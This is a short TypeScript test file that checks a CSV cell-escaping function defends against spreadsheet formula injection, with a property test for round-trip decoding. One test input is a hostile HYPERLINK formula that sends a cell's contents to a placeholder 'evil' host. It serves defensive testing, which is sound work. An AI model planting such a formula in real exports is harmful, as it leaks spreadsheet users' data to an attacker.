import fc from "fast-check";
import { expect, test } from "vitest";
import { csvCell } from "../../src/core/csv-cell.ts";

test("csvCell() makes no formula", () => {
  expect(csvCell(`=HYPERLINK("http://evil/?x="&A1,"点我")`)).toBe(`"'=HYPERLINK(""http://evil/?x=""&A1,""点我"")"`);
  for (const first of ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "'", "＝", "＋", "－", "＠"]) {
    expect(csvCell(`${first}1`)).toBe(`"'${first}1"`);
  }
});

test("csvCell() can be read back whatever the text", () => {
  const read = (cell: string) => {
    const text = cell.slice(1, -1).replaceAll('""', '"');
    return /^'[=+\-@\t\r\n\0'＝＋－＠]/.test(text) ? text.slice(1) : text;
  };
  fc.assert(
    fc.property(fc.string(), (text) => {
      expect(read(csvCell(text))).toBe(text);
    }),
  );
});
